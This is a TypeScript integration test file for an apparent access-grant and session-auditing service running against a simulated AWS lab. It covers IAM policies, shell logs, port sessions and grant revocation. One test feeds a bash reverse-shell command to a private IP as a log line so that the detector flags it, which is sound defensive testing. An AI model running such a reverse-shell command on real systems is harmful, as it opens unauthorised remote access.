import { rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { paginateLookupEvents } from '@aws-sdk/client-cloudtrail';
import {
  AttachUserPolicyCommand,
  CreatePolicyCommand,
  DeleteUserPolicyCommand,
  ListUserPoliciesCommand,
  PutRolePolicyCommand,
} from '@aws-sdk/client-iam';
import { NAMES as INFRA } from '@sallyport/infra/names.ts';
import { roleOf } from '@sallyport/infra/testing/place.ts';
import { deploy } from '@sallyport/infra/testing/resolve-template.ts';
import { HUB_ACCOUNT, MEMBER_ACCOUNT, NAMES, REGION } from '@sallyport/lab/accounts.ts';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { deriveFiles } from '../../src/adapters/search/derive-files.ts';
import { FileRowDeriver } from '../../src/adapters/search/file-row-deriver.ts';
import { revokeGrant } from '../../src/operations/end-grant.ts';
import { requestGrant } from '../../src/operations/request-grant.ts';
import { CHORE_NAMES } from '../../src/runtimes/lambda/chore-names.ts';
import { takeDelivered } from '../../src/runtimes/lambda/delivered.ts';
import { finish } from '../../src/runtimes/lambda/finish.ts';
import { keep } from '../../src/runtimes/lambda/keep.ts';
import { takeLines } from '../../src/runtimes/lambda/log-lines.ts';
import type { LambdaParts } from '../../src/runtimes/lambda/parts.ts';
import { rolesOf } from '../../src/runtimes/server/roles-of.ts';
import { MemorySearchIndex } from '../memory/archive.ts';
import { LambdaWorld, PLACE } from '../state-machines/lambda-world.ts';
import { deliverLogs, letNodeWrite, openPort, openShell } from '../state-machines/open-shell.ts';
import { makeDeployedWay } from './deployed-lines.ts';
import { makeDeliveredQueue } from './entry-ways.ts';

/**
 * The functions with the very permissions that the templates give them: local-aws asks IAM about every call, and its
 * trails tell what was refused.
 */
const MINUTE_MS = 60_000;
const parameters = {
  HomeRegion: REGION,
  KeyAdministrators: 'arn:aws:iam::*:role/KeyAdmin',
  ExternalId: 'said-so',
  HubAccount: HUB_ACCOUNT,
  Compute: 'lambda',
  LiveLines: 'yes',
};
const inHub = (OrganizationId: string) =>
  deploy(INFRA.hubStack, {
    account: HUB_ACCOUNT,
    region: REGION,
    parameters: { ...parameters, OrganizationId },
  });
const member = deploy(INFRA.memberStack, { account: MEMBER_ACCOUNT, region: REGION, parameters });
const folder = join(tmpdir(), `deployed-roles-${process.pid}`);

let world: LambdaWorld;
let hub: ReturnType<typeof inHub>;
let parts: LambdaParts;
let delivered: Awaited<ReturnType<typeof makeDeliveredQueue>>;

/** What a deployed role is allowed, with the lab's one archive in place of one in each Region. */
function allowedTo(made: typeof member, role: string): readonly string[] {
  return roleOf(made, role).documents.map((document) =>
    JSON.stringify(document).replaceAll(`sallyport-archive-${HUB_ACCOUNT}-*`, NAMES.archiveBucket),
  );
}

/** The lab's server is a user, whose own policies hold less than a role's. */
async function makeServerAsDeployed(): Promise<void> {
  const { iam } = world.hub;
  const UserName = NAMES.serverUser;
  for (const [index, PolicyDocument] of allowedTo(hub, INFRA.serverRole).entries()) {
    const made = await iam.send(new CreatePolicyCommand({ PolicyName: `deployed-${index}`, PolicyDocument }));
    await iam.send(new AttachUserPolicyCommand({ UserName, PolicyArn: made.Policy?.Arn }));
  }
  const { PolicyNames = [] } = await iam.send(new ListUserPoliciesCommand({ UserName }));
  for (const PolicyName of PolicyNames) await iam.send(new DeleteUserPolicyCommand({ UserName, PolicyName }));
}

async function makeMemberAsDeployed(): Promise<void> {
  const [PolicyDocument] = allowedTo(member, INFRA.memberRole);
  await world.admin.iam.send(
    new PutRolePolicyCommand({ RoleName: NAMES.memberRole, PolicyName: 'watch', PolicyDocument }),
  );
}

beforeAll(async () => {
  world = await LambdaWorld.start({ grants: { propagationMs: 20_000 }, trailLagMs: MINUTE_MS });
  const organization = world.aws.world.organizations.organizationOf(HUB_ACCOUNT);
  hub = inHub(organization?.id ?? '');
  await makeServerAsDeployed();
  await makeMemberAsDeployed();
  await letNodeWrite(world);
  delivered = await makeDeliveredQueue(world);
  parts = world.process(undefined, {
    deriver: new FileRowDeriver(folder, deriveFiles),
    search: () => new MemorySearchIndex(),
  });
});

afterAll(async () => {
  await world?.close();
  rmSync(folder, { recursive: true, force: true });
});

/** Calls of the watch that were refused, as the trails of both accounts have them. */
async function refused(): Promise<readonly string[]> {
  const found: string[] = [];
  for (const { cloudtrail } of [world.hub, world.admin])
    for await (const { Events = [] } of paginateLookupEvents({ client: cloudtrail }, {}))
      for (const { CloudTrailEvent = '{}' } of Events) {
        const { errorCode = '', eventName, userIdentity } = JSON.parse(CloudTrailEvent) as Recorded;
        const isOurs = /sallyport-server|SallyportMember/.test(userIdentity?.arn ?? '');
        if (isOurs && /Denied|Unauthorized/.test(errorCode)) found.push(`${eventName} ${errorCode}`);
      }
  return found;
}

interface Recorded {
  readonly errorCode?: string;
  readonly eventName: string;
  readonly userIdentity?: { readonly arn?: string };
}

test('a shell is seen from its start to its end, its logs are found and read, and its evidence is sealed', async () => {
  const shell = await openShell(world, { document: null });
  const read = async () => (await parts.stores.sessions.read(PLACE, shell.id))!;
  expect((await read()).verdict).toMatchObject({ compliant: true, unknowns: [] });
  shell.exit();
  await world.runUntil(world.now + MINUTE_MS);
  await deliverLogs(world, shell.id);
  await takeDelivered(parts, await delivered());
  await world.runUntil(world.now + 3 * MINUTE_MS);
  expect((await read()).deliveries?.deliveries.map(({ state }) => state)).toEqual(['delivered', 'delivered']);
  await keep(parts, world.now + MINUTE_MS);
  for (const name of Object.values(CHORE_NAMES))
    expect([name, (await parts.chores.read(name))?.error ?? null]).toEqual([name, null]);
  expect(await refused()).toEqual([]);
});

test('a port is closed, and people are told', async () => {
  const { id } = await openPort(world);
  await world.runUntil(world.now + MINUTE_MS);
  expect(await parts.stores.sessions.read(PLACE, id)).toMatchObject({ state: 'ended' });
  const told = (await parts.stores.notices.list({})).filter((one) => JSON.stringify(one).includes(id));
  expect(told.length).toBeGreaterThan(0);
  expect(await parts.stores.notices.unsent(10)).toEqual([]);
  expect(await refused()).toEqual([]);
});

test('lines of a member come through its subscription and the destination of its organisation, and are judged', async () => {
  const way = await makeDeployedWay(world, { hub, member });
  const { id } = await openShell(world, { document: null });
  await way.write(id, ['ssm-user@node:~$ bash -i >& /dev/tcp/10.0.0.1/4444 0>&1']);
  expect(await takeLines(parts, { Records: await way.records() })).toEqual({ batchItemFailures: [] });
  expect((await parts.stores.findings.list({ session: id })).length).toBeGreaterThan(0);
  expect(await refused()).toEqual([]);
  way.close();
});

test('grants of both kinds are given and taken away again, and nothing of them is left', async () => {
  const principal = `arn:aws:iam::${MEMBER_ACCOUNT}:user/admin`;
  const by = { principal, person: 'admin', roles: rolesOf(parts.config.roles, principal) };
  const give = async (mechanism: 'sts' | 'iam-policy', to: string): Promise<string> => {
    const asked = await requestGrant(parts.grants, {
      ...{ by, mechanism, principal: `arn:aws:iam::${MEMBER_ACCOUNT}:user/${to}`, node: world.node.id },
      ...{ windowMs: 10 * MINUTE_MS, reason: 'deploy', ticket: null, startAt: null },
      ...{ documentName: null, breakGlass: false },
    });
    if (!asked.ok) throw new Error(asked.reason);
    return asked.grant.id;
  };
  const ids = [await give('sts', 'contractor'), await give('iam-policy', 'engineer')] as const;
  await finish(parts);
  const read = () => Promise.all(ids.map((id) => parts.grants.store.read(id)));
  expect(await read()).toMatchObject([{ state: 'active' }, { state: 'active' }]);
  const credentials = await parts.grants.mechanisms.sts.issue((await read())[0]!);
  expect(credentials.sessionToken).toMatch(/./);
  for (const id of ids)
    expect(await revokeGrant(parts.grants, { id, by, reason: 'done' })).toMatchObject({ ok: true });
  await finish(parts);
  await world.runUntil(world.now + 2 * MINUTE_MS);
  const ended = { state: 'ended', end: { cause: 'revoked' }, receipt: expect.anything() };
  expect(await read()).toMatchObject([ended, ended]);
  expect(await refused()).toEqual([]);
});
